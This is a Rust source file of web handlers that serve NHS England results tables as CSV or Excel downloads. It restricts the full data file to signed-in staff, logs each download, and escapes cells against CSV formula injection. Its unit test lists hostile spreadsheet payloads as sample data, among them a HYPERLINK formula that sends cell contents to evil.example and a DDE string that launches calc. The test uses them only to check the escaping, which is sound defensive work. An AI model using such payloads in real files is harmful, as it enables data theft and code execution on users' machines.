//! Results as files: each public table as CSV or Excel (a real .xlsx with a notes sheet), named
//! with the cycle, the table and the version; and NHS England's full data file, named or
//! anonymised, for signed-in NHS England staff only.

use app::api::guard;
use app::api::results_export::{full_data, results_table, Cell, Export, Table};
use app::error::AppError;
use app::rules::access;
use app::state::AppState;
use axum::{
    extract::{Path, Query, State},
    http::{header, HeaderValue, StatusCode},
    response::{IntoResponse, Response},
};
use rust_xlsxwriter::{Format, Workbook};
use serde::Deserialize;
use tower_sessions::Session;

#[derive(Deserialize)]
pub(super) struct VersionParam {
    version: Option<String>,
}

/// The two file types, by the extension in the address.
#[derive(Clone, Copy)]
enum FileType {
    Csv,
    Xlsx,
}

impl FileType {
    fn extension(self) -> &'static str {
        match self {
            FileType::Csv => "csv",
            FileType::Xlsx => "xlsx",
        }
    }

    fn from_name(name: &str) -> Option<(&str, FileType)> {
        if let Some(stem) = name.strip_suffix(".csv") {
            Some((stem, FileType::Csv))
        } else {
            name.strip_suffix(".xlsx")
                .map(|stem| (stem, FileType::Xlsx))
        }
    }
}

/// `/results/{cycle}/{regions|ics|trusts}.{csv|xlsx}?version=N`.
pub(super) async fn results_download(
    State(state): State<AppState>,
    Path((cycle_id, file)): Path<(String, String)>,
    Query(params): Query<VersionParam>,
) -> Response {
    let Some((table, file_type)) = FileType::from_name(&file).and_then(|(stem, file_type)| {
        let table = match stem {
            "regions" => Table::Regions,
            "ics" => Table::Ics,
            "trusts" => Table::Trusts,
            _ => return None,
        };
        Some((table, file_type))
    }) else {
        return refusal(AppError::NotFound("There is no such download.".into()));
    };
    let version = match params.version.as_deref().map(str::trim) {
        None | Some("") => None,
        Some(text) => match text.parse() {
            Ok(version) => Some(version),
            Err(_) => {
                return refusal(AppError::NotFound(
                    "There is no such version of these results.".into(),
                ))
            }
        },
    };
    match results_table(&state.db, &cycle_id, version, table).await {
        Ok(export) => file_response(&export, file_type),
        Err(error) => refusal(error),
    }
}

/// `/admin/cycles/{cycle}/results/{data|anonymised}.{csv|xlsx}`: NHS England staff only.
pub(super) async fn full_data_download(
    State(state): State<AppState>,
    session: Session,
    Path((cycle_id, file)): Path<(String, String)>,
) -> Response {
    let actor = match guard::actor_of(&session, &state.db).await {
        Ok(Some(actor)) => actor,
        Ok(None) => return refusal(AppError::SignInRequired),
        Err(error) => return refusal(error),
    };
    if let Err(refused) = access::may_download_full_data(&actor) {
        return refusal(AppError::Forbidden(refused.into()));
    }
    let Some((anonymised, file_type)) =
        FileType::from_name(&file).and_then(|(stem, file_type)| match stem {
            "data" => Some((false, file_type)),
            "anonymised" => Some((true, file_type)),
            _ => None,
        })
    else {
        return refusal(AppError::NotFound("There is no such download.".into()));
    };
    let export = match full_data(&state.db, &cycle_id, anonymised, &actor).await {
        Ok(export) => export,
        Err(error) => return refusal(error),
    };
    // The data file is personal data: nobody has it without a record of who took which copy.
    let recorded = record_data_file_download(
        &state.db,
        &actor.account_id,
        &cycle_id,
        &format!(
            "version {}, {}, {}",
            export.version,
            if anonymised { "anonymised" } else { "named" },
            file_type.extension()
        ),
    )
    .await;
    if let Err(error) = recorded {
        tracing::error!(%error, "recording a download of the full data file");
        return refusal(AppError::Internal);
    }
    file_response(&export, file_type)
}

async fn record_data_file_download(
    db: &app::store::Db,
    account_id: &str,
    cycle_id: &str,
    what: &str,
) -> Result<(), sqlx::Error> {
    let mut tx = db.begin_write().await?;
    app::store::audit::record(
        &mut tx,
        app::store::audit::AuditEntry {
            actor: account_id,
            action: "download the full data file",
            entity_type: "cycle",
            entity_id: cycle_id,
            after: Some(what.to_string()),
            ..Default::default()
        },
    )
    .await?;
    tx.commit().await
}

/// An error as plain text with its status: a download has no page to show it on.
pub(super) fn refusal(error: AppError) -> Response {
    let status = match error {
        AppError::NotFound(_) => StatusCode::NOT_FOUND,
        AppError::SignInRequired => StatusCode::UNAUTHORIZED,
        AppError::Forbidden(_) => StatusCode::FORBIDDEN,
        AppError::Invalid(_) | AppError::InvalidField { .. } => StatusCode::BAD_REQUEST,
        _ => StatusCode::INTERNAL_SERVER_ERROR,
    };
    (status, error.to_string()).into_response()
}

fn file_response(export: &Export, file_type: FileType) -> Response {
    let (body, content_type) = match file_type {
        FileType::Csv => (csv_bytes(export), "text/csv; charset=utf-8"),
        FileType::Xlsx => (
            xlsx_bytes(export),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
    };
    let extension = file_type.extension();
    let body = match body {
        Ok(body) => body,
        Err(error) => {
            tracing::error!(%error, "writing a results download");
            return refusal(AppError::Internal);
        }
    };
    let disposition = format!("attachment; filename=\"{}.{extension}\"", export.file_stem);
    let mut response = body.into_response();
    let headers = response.headers_mut();
    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    if let Ok(disposition) = HeaderValue::from_str(&disposition) {
        headers.insert(header::CONTENT_DISPOSITION, disposition);
    }
    response
}

/// The table, then a blank line and the notes, each in the first column.
fn csv_bytes(export: &Export) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    let mut writer = csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(Vec::new());
    writer.write_record(&export.headers)?;
    for row in &export.rows {
        writer.write_record(row.iter().map(|cell| match cell {
            Cell::Text(text) => inert_in_a_spreadsheet(text),
            Cell::Number(number) => number.to_string(),
        }))?;
    }
    writer.write_record([""])?;
    for note in &export.notes {
        writer.write_record([inert_in_a_spreadsheet(note)])?;
    }
    Ok(writer.into_inner()?)
}

/// Text as a spreadsheet shows it, never runs it: a cell that begins with `=`, `+`, `-`, `@`, a
/// tab or a carriage return is a formula to Excel (`=HYPERLINK(…)` in a reply comment would be a
/// live link in a moderator's copy), so it gets a leading apostrophe, as OWASP's CSV injection
/// guidance says. Numbers are written as numbers and need nothing.
fn inert_in_a_spreadsheet(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// The table on its own sheet, numbers as numbers shown to 2 decimals, and a "Notes" sheet.
fn xlsx_bytes(export: &Export) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold();
    let score = Format::new().set_num_format("0.00");
    let sheet = workbook.add_worksheet();
    sheet.set_name(&export.sheet)?;
    for (column, header) in export.headers.iter().enumerate() {
        sheet.write_string_with_format(0, column as u16, header, &bold)?;
    }
    for (index, row) in export.rows.iter().enumerate() {
        let row_number = index as u32 + 1;
        for (column, cell) in row.iter().enumerate() {
            match cell {
                Cell::Text(text) => sheet.write_string(row_number, column as u16, text)?,
                Cell::Number(number) => {
                    sheet.write_number_with_format(row_number, column as u16, *number, &score)?
                }
            };
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    let notes = workbook.add_worksheet();
    notes.set_name("Notes")?;
    notes.write_string_with_format(0, 0, "Notes", &bold)?;
    for (index, note) in export.notes.iter().enumerate() {
        notes.write_string(index as u32 + 1, 0, note)?;
    }
    notes.set_column_width(0, 120)?;
    Ok(workbook.save_to_buffer()?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_text_cell_of_a_csv_download_is_a_formula() {
        let attack = "=HYPERLINK(\"https://evil.example/?\"&B2,\"evidence\")";
        let dangerous = [
            attack.to_string(),
            "+1+cmd|' /C calc'!A0".into(),
            "-2+3".into(),
            "@SUM(1,2)".into(),
            "\t=1".into(),
            "\r=1".into(),
        ];
        let export = Export {
            file_stem: "test".into(),
            sheet: "Data".into(),
            headers: vec!["Comment".into(), "Level".into()],
            rows: dangerous
                .iter()
                .map(|text| vec![Cell::Text(text.clone()), Cell::Number(-1.5)])
                .chain([vec![
                    Cell::Text("Board paper = approved".into()),
                    Cell::Number(3.0),
                ]])
                .collect(),
            notes: vec!["=1+1".into()],
            version: 1,
        };
        let bytes = csv_bytes(&export).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .flexible(true)
            .from_reader(&bytes[..]);
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        for (record, typed) in records.iter().zip(&dangerous) {
            assert_eq!(
                &record[0],
                format!("'{typed}"),
                "{typed:?} is shown as typed, not run"
            );
            assert_eq!(&record[1], "-1.5", "a number stays a number");
        }
        assert_eq!(&records[dangerous.len()][0], "Board paper = approved");
        assert_eq!(&records[records.len() - 1][0], "'=1+1", "notes too");
    }
}
